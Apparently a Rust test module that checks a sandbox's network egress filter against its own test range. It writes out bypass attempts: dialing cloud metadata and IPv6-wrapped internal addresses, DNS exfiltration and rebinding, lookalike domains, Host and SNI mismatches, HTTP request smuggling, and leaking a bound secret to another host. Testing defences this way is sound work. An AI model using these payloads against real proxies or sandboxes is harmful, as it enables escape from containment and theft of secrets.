//! The network wall: packets, names and requests that no rule allows.
//!
//! Every attack goes to a range of our own. What the range saw decides, and nothing that was printed inside.

use super::{ALL, alone};
use crate::bench::{Bench, Came, Job};
use crate::canary::canary;
use crate::finding::Finding;
use crate::probe::{Probe, Side, Wall};
use crate::range::{Seen, Share};
use std::io;
use std::net::IpAddr;

const E: Wall = Wall::Network;

pub(super) fn probes() -> Vec<Probe> {
    [packets(), more_packets(), names(), requests(), more_requests(), rules()].concat()
}

fn packets() -> Vec<Probe> {
    vec![
        alone(("E01", E, "ignore the proxy and dial a host that no rule names"), ALL, |bench, side| {
            nothing(bench, side, allowed, |share| tcp(&share.sink(), &["443", "80", "22"]))
        }),
        alone(("E02", E, "dial another port of an allowed host"), ALL, |bench, side| {
            unlisted_port(bench, side)
        }),
        alone(("E03", E, "dial the host by its usual addresses"), ALL, |bench, side| {
            internal(bench, side, |share| {
                [
                    format!("10.0.2.{}", share.0),
                    format!("192.168.127.{}", share.0),
                    format!("172.17.0.{}", share.0),
                    format!("192.168.65.{}", share.0),
                ]
                .to_vec()
            })
        }),
        alone(("E05", E, "send datagrams"), ALL, |bench, side| {
            nothing(bench, side, allowed, |share| {
                let ports = ["443", "123", "9", "53"];
                let each = |host: String| ports.map(|port| step(&["udp", &host, port, "payload"]));
                [each(share.sink()), each(share.right()), each(share.sink_v6())].concat()
            })
        }),
        alone(("E06", E, "send echo requests"), ALL, |bench, side| {
            nothing(bench, side, allowed, |share| {
                vec![step(&["icmp", &share.sink()]), step(&["icmp", &share.right()])]
            })
        }),
        alone(("E08", E, "dial a resolver by TLS"), ALL, |bench, side| {
            nothing(bench, side, allowed, |share| {
                vec![
                    step(&["hello", &share.sink(), "853", "dns.denied.test"]),
                    step(&["hello", &share.sink(), "443", "dns.denied.test"]),
                ]
            })
        }),
        alone(("E14", E, "dial the metadata services"), ALL, |bench, side| {
            internal(bench, side, |share| {
                [
                    format!("169.254.169.{}", share.0),
                    format!("169.254.170.{}", share.0),
                    format!("100.100.100.{}", share.0),
                ]
                .to_vec()
            })
        }),
        alone(("E15", E, "dial the metadata services of version 6"), ALL, |bench, side| {
            internal(bench, side, |share| {
                [
                    format!("fd00:ec2::{:x}", share.0),
                    format!("fd20:ce::{:x}", share.0),
                    format!("fe80::{:x}", share.0),
                ]
                .to_vec()
            })
        }),
    ]
}

fn more_packets() -> Vec<Probe> {
    vec![
        alone(("E16", E, "the same by version 6"), ALL, |bench, side| {
            nothing(bench, side, allowed, |share| tcp(&share.sink_v6(), &["443", "80", "22"]))
        }),
        alone(("E23", E, "dial an internal address inside an address of version 6"), ALL, wrappers),
        alone(("E24", E, "dial special ranges"), ALL, |bench, side| {
            internal(bench, side, |share| {
                [
                    format!("100.64.7.{}", share.0),
                    format!("192.0.0.{}", share.0),
                    format!("240.0.7.{}", share.0),
                    format!("127.7.7.{}", share.0),
                ]
                .to_vec()
            })
        }),
        alone(("E52", E, "read the greeting of a server that no rule names"), ALL, |bench, side| {
            nothing(
                bench,
                side,
                |share| vec![format!("{}:22", share.allowed())],
                |share| tcp(&share.denied(), &["22", "25"]),
            )
        }),
    ]
}

fn names() -> Vec<Probe> {
    vec![
        alone(("E07", E, "ask a resolver of its own choice"), ALL, |bench, side| {
            questions(bench, side, |share, name| {
                let servers = [share.sink(), "8.8.8.8".to_owned(), "192.0.2.53".to_owned()];
                servers
                    .iter()
                    .flat_map(|server| ["udp", "tcp"].map(|over| step(&["dns", server, over, "16", name])))
                    .collect()
            })
        }),
        alone(("E09", E, "carry data out in a question to the resolver"), ALL, |bench, side| {
            questions(bench, side, |_, name| {
                // A, AAAA, TXT, NULL, HTTPS, SRV, PTR, MX, ANY.
                ["1", "28", "16", "10", "65", "33", "12", "15", "255"]
                    .map(|kind| step(&["dns", "own", "udp", kind, name]))
                    .to_vec()
            })
        }),
        alone(("E10", E, "have a denied request resolve its host"), ALL, |bench, side| {
            questions(bench, side, |_, name| {
                let get = format!(
                    "GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\nConnection: close\\r\\n\\r\\n"
                );
                let connect = format!("CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n");
                vec![step(&["proxy", &get]), step(&["proxy", &connect]), step(&["tcp", name, "80", "x"])]
            })
        }),
        alone(("E12", E, "have an allowed name lead to an internal address"), ALL, |bench, side| {
            resolved(bench, side, |internal| internal.join("--"), "a-")
        }),
        alone(
            ("E13", E, "have an allowed name change its address after it was judged"),
            ALL,
            |bench, side| {
                resolved(bench, side, |internal| internal.first().cloned().unwrap_or_default(), "r-")
            },
        ),
        alone(("E17", E, "use names that only look allowed"), ALL, |bench, side| {
            nothing(
                bench,
                side,
                |_| vec!["http://*.allowed.test".to_owned(), "http://allowed.test".to_owned()],
                |share| {
                    let domains = [
                        "evilallowed.test",
                        "allowed.test.denied.test",
                        "allowed.test-denied.test",
                        "allowed.tes",
                        "allowed.test.com",
                    ];
                    domains.iter().flat_map(|domain| request(&share.name(&[&share.sink()], domain))).collect()
                },
            )
        }),
        alone(("E18", E, "spell a denied name otherwise"), ALL, |bench, side| {
            nothing(bench, side, allowed_http, |share| {
                let name = share.denied();
                [
                    request(&format!("{name}.")),
                    request(&name.to_uppercase()),
                    request(&format!("{}.", name.to_uppercase())),
                ]
                .concat()
            })
        }),
    ]
}

fn requests() -> Vec<Probe> {
    vec![
        alone(("E21", E, "use a URL that reads two ways"), ALL, |bench, side| {
            nothing(bench, side, allowed_http, |share| {
                let (right, wrong) = (share.allowed(), share.denied());
                let urls = [format!("http://{right}@{wrong}/"), format!("http://{right}:80@{wrong}/")];
                let each = |url: &String| {
                    [&right, &wrong].map(|host| {
                        step(&[
                            "proxy",
                            &format!(
                                "GET {url} HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n"
                            ),
                        ])
                    })
                };
                urls.iter().flat_map(each).collect()
            })
        }),
        alone(("E28", E, "name another host in the request line than in `Host`"), ALL, |bench, side| {
            nothing(bench, side, allowed_http, |share| {
                let (right, wrong) = (share.allowed(), share.denied());
                vec![step(&[
                    "proxy",
                    &format!(
                        "GET http://{wrong}/ HTTP/1.1\\r\\nHost: {right}\\r\\nConnection: close\\r\\n\\r\\n"
                    ),
                ])]
            })
        }),
        alone(("E29", E, "dial a denied address with the `Host` of an allowed one"), ALL, |bench, side| {
            nothing(bench, side, allowed_http, |share| {
                vec![
                    step(&["tcp", &share.sink(), "80", &get(&share.allowed())]),
                    step(&["tcp", &share.denied(), "80", &get(&share.allowed())]),
                ]
            })
        }),
        alone(("E26", E, "say one host to the wall and another in the handshake"), ALL, |bench, side| {
            let marked = |share: Share, mark: &str| {
                vec![step(&["hello", &share.allowed(), "443", &format!("{mark}.denied.test")])]
            };
            bytes(bench, side, |share| vec![share.allowed()], marked)
        }),
    ]
}

fn more_requests() -> Vec<Probe> {
    vec![
        alone(("E30", E, "send a request with two hosts, or an odd one"), ALL, |bench, side| {
            bytes(bench, side, allowed_http, |share, mark| {
                let right = share.allowed();
                let heads = [
                    format!("GET /{mark} HTTP/1.1\\r\\nHost: {right}\\r\\nHost: denied.test\\r\\n\\r\\n"),
                    format!("GET /{mark} HTTP/1.1\\r\\nHost : {right}\\r\\n\\r\\n"),
                    format!("GET /{mark} HTTP/1.1\\r\\n Host: {right}\\r\\n\\r\\n"),
                    format!("GET /{mark} HTTP/1.1\\r\\nHost:\\r\\n\\r\\n"),
                ];
                heads.iter().map(|head| step(&["tcp", &right, "80", head])).collect()
            })
        }),
        alone(("E32", E, "smuggle a request in the body of another"), ALL, |bench, side| {
            bytes(bench, side, allowed_http, |share, mark| {
                let right = share.allowed();
                let inner = format!("GET /{mark} HTTP/1.1\\r\\nHost: denied.test\\r\\n\\r\\n");
                ["chunked", " chunked", "xchunked", "chunked\t"]
                    .map(|coding| {
                        let head = format!("POST / HTTP/1.1\\r\\nHost: {right}\\r\\nContent-Length: 4\\r\\nTransfer-Encoding:{coding}\\r\\n\\r\\n0\\r\\n\\r\\n{inner}");
                        step(&["tcp", &right, "80", &head])
                    })
                    .to_vec()
            })
        }),
        alone(("E34", E, "send a second request to a denied path"), ALL, |bench, side| {
            bytes(
                bench,
                side,
                |share| vec![format!("GET http://{}/ok/**", share.allowed())],
                |share, mark| {
                    let right = share.allowed();
                    let two = format!(
                        "GET /ok/ HTTP/1.1\\r\\nHost: {right}\\r\\n\\r\\nGET /{mark} HTTP/1.1\\r\\nHost: {right}\\r\\nConnection: close\\r\\n\\r\\n"
                    );
                    vec![step(&["tcp", &right, "80", &two])]
                },
            )
        }),
        alone(("E35", E, "ask a denied host in the clear"), ALL, |bench, side| {
            nothing(bench, side, allowed, |share| request(&share.denied()))
        }),
        alone(("E51", E, "use a method that the rule does not name"), ALL, |bench, side| {
            bytes(
                bench,
                side,
                |share| vec![format!("GET http://{}/**", share.allowed())],
                |share, mark| {
                    let right = share.allowed();
                    vec![step(&[
                        "tcp",
                        &right,
                        "80",
                        &format!(
                            "POST /{mark} HTTP/1.1\\r\\nHost: {right}\\r\\nContent-Length: 0\\r\\n\\r\\n"
                        ),
                    ])]
                },
            )
        }),
    ]
}

fn rules() -> Vec<Probe> {
    vec![
        alone(("E42", E, "start with rules that can not be read"), ALL, unreadable_rules),
        alone(("E44", E, "reach anything with no rule at all"), ALL, |bench, side| {
            nothing(
                bench,
                side,
                |_| Vec::new(),
                |share| {
                    let (sink, denied) = (share.sink(), share.denied());
                    [
                        tcp(&sink, &["443", "80"]),
                        request(&denied),
                        vec![step(&["udp", &sink, "53", "x"]), step(&["dns", "own", "udp", "1", &denied])],
                    ]
                    .concat()
                },
            )
        }),
        alone(
            ("S05", Wall::Credentials, "have a secret put into a request in the clear"),
            ALL,
            secret_in_the_clear,
        ),
        alone(("S13", Wall::Credentials, "send a placeholder to another host"), ALL, placeholder_elsewhere),
    ]
}

// === words ===

pub(super) fn step(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

pub(super) fn get(host: &str) -> String {
    format!("GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n")
}

fn tcp(host: &str, ports: &[&str]) -> Vec<Vec<String>> {
    ports.iter().map(|port| step(&["tcp", host, port, &get("x")])).collect()
}

/// Directly, and by the proxy.
fn request(host: &str) -> Vec<Vec<String>> {
    let absolute =
        format!("GET http://{host}/ HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
    vec![step(&["tcp", host, "80", &get(host)]), step(&["proxy", &absolute])]
}

fn allowed(share: Share) -> Vec<String> {
    vec![share.allowed()]
}

fn allowed_http(share: Share) -> Vec<String> {
    vec![format!("http://{}", share.allowed())]
}

// === judgements ===

/// Runs steps in the range, under rules.
pub(super) fn run(
    bench: &Bench,
    side: Side,
    rules: &[String],
    steps: Vec<Vec<String>>,
    more: Job,
) -> io::Result<(Came, Seen)> {
    let range = bench.range()?;
    let mut flags = more.flags.clone();
    flags.extend(rules.iter().flat_map(|rule| ["--allow".to_owned(), rule.clone()]));
    let named = |(place, words): (usize, Vec<String>)| [vec![format!("e{place}")], words].concat();
    let steps = steps.into_iter().enumerate().map(named).collect();
    let came = bench.run(side, &Job { flags, steps, through: range.through(), ..more })?;
    let seen = range.seen()?;
    Ok((came, seen))
}

/// Quiet where the attack came to its end.
pub(super) fn whole(came: &Came) -> Finding {
    if came.told.ended { Finding::Quiet } else { Finding::Unclear(came.outcome()) }
}

/// Through where the range saw anything at an address of this share that a rule does not lead to, or a question about it.
fn nothing(
    bench: &Bench,
    side: Side,
    rules: fn(Share) -> Vec<String>,
    steps: fn(Share) -> Vec<Vec<String>>,
) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let (came, seen) = run(bench, side, &rules(share), steps(share), Job::default())?;
    let addresses: Vec<IpAddr> =
        [share.sink(), share.sink_v6(), share.right()].iter().flat_map(|address| address.parse()).collect();
    Ok(through(&seen, &addresses).or(|| asked(&seen, &format!(".p{}.denied", share.0))).or(|| whole(&came)))
}

pub(super) fn through(seen: &Seen, addresses: &[IpAddr]) -> Finding {
    let reached: Vec<String> = seen.reached(addresses).into_iter().collect();
    Finding::through_if(!reached.is_empty(), reached.join(", "))
}

fn asked(seen: &Seen, text: &str) -> Finding {
    let asked: Vec<String> =
        seen.asked(text).into_iter().map(|question| format!("question {question}")).collect();
    Finding::through_if(!asked.is_empty(), asked.join(", "))
}

/// Under the widest setting, addresses that are nobody's business.
fn internal(bench: &Bench, side: Side, addresses: fn(Share) -> Vec<String>) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let hosts = addresses(share);
    let steps = hosts.iter().flat_map(|host| tcp(host, &["80"])).collect();
    let (came, seen) = run(bench, side, &[], steps, Job::default().flags(["--net", "proxy"]))?;
    let parsed: Vec<IpAddr> = hosts.iter().flat_map(|host| host.parse()).collect();
    Ok(through(&seen, &parsed).or(|| whole(&came)))
}

fn unlisted_port(bench: &Bench, side: Side) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let steps = tcp(&share.allowed(), &["22", "25", "80", "5432", "9999", "4"]);
    let (came, seen) = run(bench, side, &allowed(share), steps, Job::default())?;
    let right: Vec<IpAddr> = share.right().parse().into_iter().collect();
    Ok(through(&seen, &right).or(|| whole(&came)))
}

/// An internal address in the clothes of version 6. A packet to the bare address is one too.
fn wrappers(bench: &Bench, side: Side) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let (last, low) = (share.0, format!("a4f:{:x}", share.0));
    let hosts = [
        format!("::ffff:10.79.0.{last}"),
        format!("::ffff:0:{low}"),
        format!("::{low}"),
        format!("2002:{low}::1"),
        format!("64:ff9b::{low}"),
        format!("64:ff9b:1::{low}"),
    ];
    let steps = hosts.iter().flat_map(|host| tcp(host, &["80"])).collect();
    let (came, seen) = run(bench, side, &[], steps, Job::default().flags(["--net", "proxy"]))?;
    let parsed: Vec<IpAddr> =
        hosts.iter().flat_map(|host| host.parse::<IpAddr>()).map(|address| address.to_canonical()).collect();
    Ok(through(&seen, &parsed).or(|| whole(&came)))
}

/// Through where a question with our canary left.
fn questions(bench: &Bench, side: Side, steps: fn(Share, &str) -> Vec<Vec<String>>) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let mark = canary()?;
    let (came, seen) =
        run(bench, side, &allowed(share), steps(share, &format!("{mark}.denied.test")), Job::default())?;
    Ok(asked(&seen, &mark).or(|| whole(&came)))
}

/// Names under a rule, that resolve to internal addresses: at once, or from the second question on.
fn resolved(bench: &Bench, side: Side, label: fn(&[String]) -> String, kind: &str) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let last = share.0;
    let internal = [
        format!("10.77.0.{last}"),
        format!("192.168.77.{last}"),
        format!("172.16.77.{last}"),
        format!("169.254.77.{last}"),
        format!("127.77.0.{last}"),
    ];
    let dashed: Vec<String> = internal.iter().map(|address| address.replace('.', "-")).collect();
    let names: Vec<String> = if kind == "r-" {
        vec![format!("r-{}--{}.allowed.test", share.right().replace('.', "-"), label(&dashed))]
    } else {
        let mut names: Vec<String> = dashed.iter().map(|one| format!("a-{one}.allowed.test")).collect();
        names.push(format!("a-{}.allowed.test", label(&dashed)));
        names
    };
    let rounds = if kind == "r-" { 3 } else { 1 };
    let steps = names
        .iter()
        .flat_map(|name| (0..rounds).map(move |_| step(&["tcp", name, "80", &get(name)])))
        .collect();
    let (came, seen) = run(bench, side, &["http://*.allowed.test".to_owned()], steps, Job::default())?;
    let parsed: Vec<IpAddr> = internal.iter().flat_map(|host| host.parse()).collect();
    let finding = through(&seen, &parsed);
    if kind == "r-" && side == Side::Walled && finding == Finding::Quiet {
        let right: Vec<IpAddr> = share.right().parse().into_iter().collect();
        if seen.reached(&right).is_empty() {
            return Ok(Finding::Unclear("not even the public address was dialled".to_owned()));
        }
    }
    Ok(finding.or(|| whole(&came)))
}

/// Through where a server read our canary, at an address that a rule leads to.
fn bytes(
    bench: &Bench,
    side: Side,
    rules: fn(Share) -> Vec<String>,
    steps: fn(Share, &str) -> Vec<Vec<String>>,
) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let mark = canary()?;
    let (came, seen) = run(bench, side, &rules(share), steps(share, &mark), Job::default())?;
    Ok(Finding::through_if(seen.read(&mark), "a server read it").or(|| whole(&came)))
}

/// Rules that can not be read are refused, and nothing runs. The control is a rule that can be.
fn unreadable_rules(bench: &Bench, side: Side) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let rules = match side {
        Side::Walled => ["http://", "*.*", "a..b", "https://ex ample.com", "host:99999", "http://[::1", "*"]
            .map(str::to_owned)
            .to_vec(),
        Side::Open => allowed(share),
    };
    for rule in rules {
        let job = Job::step(&["E42", "descriptors"]).flags(["--allow".to_owned(), rule.clone()]);
        let came = bench.run(Side::Walled, &Job { through: bench.range()?.through(), ..job })?;
        if came.told.step("E42").over {
            return Ok(Finding::Through(format!("it started with the rule `{rule}`")));
        }
        if came.refusal().is_none() {
            return Ok(Finding::Unclear(came.outcome()));
        }
    }
    Ok(Finding::Quiet)
}

/// A secret's variable on the host, and the flags that bind it to one host by TLS.
fn bound(bench: &Bench, side: Side, share: Share) -> Job {
    let flags = ["--secret", "PROVED=env:PROVE_SECRET", "--allow"].map(str::to_owned);
    let rule = format!("https://{} with bearer:PROVED", share.allowed());
    let secret = bench.scene(side).secret.clone();
    Job { env: vec![("PROVE_SECRET".to_owned(), secret)], ..Job::default().flags(flags).flags([rule]) }
}

/// The same host in the clear, and an address with its name: no server may read the value. The control sends it.
fn secret_in_the_clear(bench: &Bench, side: Side) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let secret = bench.scene(side).secret.clone();
    let value = if side == Side::Open { secret.as_str() } else { "$PROVED" };
    let right = share.allowed();
    let head = format!(
        "GET / HTTP/1.1\\r\\nHost: {right}\\r\\nAuthorization: Bearer {value}\\r\\nConnection: close\\r\\n\\r\\n"
    );
    let steps = vec![
        step(&["tcp-variables", &right, "80", &head]),
        step(&["tcp-variables", &share.sink(), "80", &head]),
    ];
    let (came, seen) = run(bench, side, &[format!("http://{right}")], steps, bound(bench, side, share))?;
    Ok(Finding::through_if(seen.read(&secret), "a server read the value of the secret").or(|| whole(&came)))
}

/// Another host that a rule allows is sent the placeholder: in a field, in the path, in a body. Nothing arrives.
fn placeholder_elsewhere(bench: &Bench, side: Side) -> io::Result<Finding> {
    let share = bench.range()?.share()?;
    let secret = bench.scene(side).secret.clone();
    let value = if side == Side::Open { secret.as_str() } else { "$PROVED" };
    let mark = canary()?;
    let other = share.name(&[&share.sink()], "other.test");
    let heads = [
        format!(
            "GET /{mark} HTTP/1.1\\r\\nHost: {other}\\r\\nAuthorization: Bearer {value}\\r\\nConnection: close\\r\\n\\r\\n"
        ),
        format!("GET /{mark}/{value} HTTP/1.1\\r\\nHost: {other}\\r\\nConnection: close\\r\\n\\r\\n"),
        format!("GET /{mark}?key={value} HTTP/1.1\\r\\nHost: {other}\\r\\nConnection: close\\r\\n\\r\\n"),
    ];
    let steps = heads.iter().map(|head| step(&["tcp-variables", &other, "80", head])).collect();
    let (came, seen) = run(bench, side, &[format!("http://{other}")], steps, bound(bench, side, share))?;
    let read = seen.read(&secret) || seen.read(&mark);
    Ok(Finding::through_if(read, "a server that the secret is not for read it, or its placeholder")
        .or(|| whole(&came)))
}
